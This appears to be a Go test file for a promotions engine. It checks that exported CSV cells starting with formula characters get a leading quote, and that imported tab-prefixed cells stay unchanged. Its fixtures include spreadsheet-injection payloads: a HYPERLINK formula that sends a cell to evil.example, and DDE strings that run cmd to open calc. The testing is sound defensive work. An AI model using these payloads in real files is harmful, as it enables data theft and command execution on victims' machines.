package promo_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/promoengine/promo/async"
	"github.com/promoengine/promo/customer"
	"github.com/promoengine/promo/export"
	"github.com/promoengine/promo/promotype"
	"github.com/promoengine/promo/redemption"
	"github.com/promoengine/promo/voucher"
)

// exportDone creates an export of object with fields ordered by order,
// runs its job and returns the file's rows.
func exportDone(t *testing.T, f fixture, object, order string, fields ...string) [][]string {
	t.Helper()
	e := must[*export.Export](t)(f.eng.Exports().Create(ctx, f.project, export.CreateParams{ExportedObject: promotype.Ptr(object),
		Parameters: &export.RequestParameters{Order: promotype.Ptr(order), Fields: fields}}))
	must[int](t)(f.eng.AsyncActions().RunPending(ctx, async.Config{}))
	e = must[*export.Export](t)(f.eng.Exports().Get(ctx, f.project, e.ID))
	if e.Status != export.StatusDone {
		t.Fatalf("export of %s: %s", object, e.Status)
	}
	return download(t, f, e)
}

// Text a client wrote that a spreadsheet would run as a formula (a leading
// =, +, -, @, tab or carriage return) is exported with a leading single
// quote, in every column and in a metadata key's header; numbers, the
// engine's negative amounts included, are written as they are.
func TestExportNeutralisesFormulas(t *testing.T) {
	eachStore(t, func(t *testing.T, f fixture) {
		texts := []string{
			`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
			`=cmd|' /C calc'!A0`,
			`+SUM(1+1)*cmd|' /C calc'!A0`,
			`@SUM(1+1)*cmd|' /C calc'!A0`,
			`-2+3+cmd|' /C calc'!A0`,
			"\t=1+1",
			"\r=1+1",
			"plain text",
			"a=b+c-d@e",
		}
		want := [][]string{{"Source ID", "Name", "metadata.note", "metadata.score", "metadata.=key"}}
		for i, s := range texts {
			id := fmt.Sprintf("c-%d", i)
			must[*customer.Customer](t)(f.eng.Customers().Upsert(ctx, f.project, customer.Params{SourceID: &id, Name: promotype.Ptr(s),
				Metadata: promotype.Metadata{"note": s, "score": -5.5, "=key": "-1"}}))
			out := s
			if i < 7 {
				out = "'" + s
			}
			want = append(want, []string{id, out, out, "-5.5", "-1"})
		}
		diff(t, "customers export", want, exportDone(t, f, "customer", "source_id", "source_id", "name", "metadata.note", "metadata.score", "metadata.=key"))

		// A rollback's negative amount is a number, not a formula.
		code := "GIFT-1"
		in := js[voucher.Params](t, `{"type":"GIFT_VOUCHER","gift":{"amount":2000}}`)
		in.Code = &code
		must[*voucher.Voucher](t)(f.eng.Vouchers().Create(ctx, f.project, in))
		r := must[*redemption.Redemptions](t)(f.eng.Redemptions().Redeem(ctx, f.project,
			js[redemption.ValidationParams](t, `{"redeemables":[{"object":"voucher","id":"GIFT-1"}],"order":{"amount":1550}}`), redemption.RedeemOptions{}))
		f.clock.Advance(1000)
		must[*redemption.RollbackStack](t)(f.eng.Redemptions().Rollback(ctx, f.project, r.Redemptions[0].ID, redemption.RollbackParams{}))
		diff(t, "redemptions export", [][]string{{"Object", "Gift Amount"}, {"redemption", "15.50"}, {"redemption_rollback", "-15.50"}},
			exportDone(t, f, "redemption", "created_at", "object", "gift_amount"))
	})
}

// An import keeps a cell's text as given: a leading tab (how some tools
// defuse a formula) is not stripped, so the text never comes back live,
// and its export is neutralised.
func TestImportKeepsLeadingTab(t *testing.T) {
	eachStore(t, func(t *testing.T, f fixture) {
		csv := "Source_id,Name,Note,Level\n" + "t-1,\"\t=1+1\",\"\t=2+2\",\" 3 \"\n"
		ref := must[*async.Ref](t)(f.eng.Imports().ImportCustomersCSV(ctx, f.project, strings.NewReader(csv)))
		must[int](t)(f.eng.AsyncActions().RunPending(ctx, async.Config{}))
		if a := must[*async.Action](t)(f.eng.AsyncActions().Get(ctx, f.project, ref.AsyncActionID)); a.Status != async.StatusDone {
			t.Fatalf("import: %s %s", a.Status, a.Result)
		}
		c := must[*customer.Customer](t)(f.eng.Customers().Get(ctx, f.project, "t-1"))
		diff(t, "imported customer", []any{"\t=1+1", "\t=2+2", " 3 "}, []any{*c.Name, c.Metadata["Note"], c.Metadata["Level"]})
		diff(t, "its export", [][]string{{"Name", "metadata.Note"}, {"'\t=1+1", "'\t=2+2"}},
			exportDone(t, f, "customer", "source_id", "name", "metadata.Note"))
	})
}
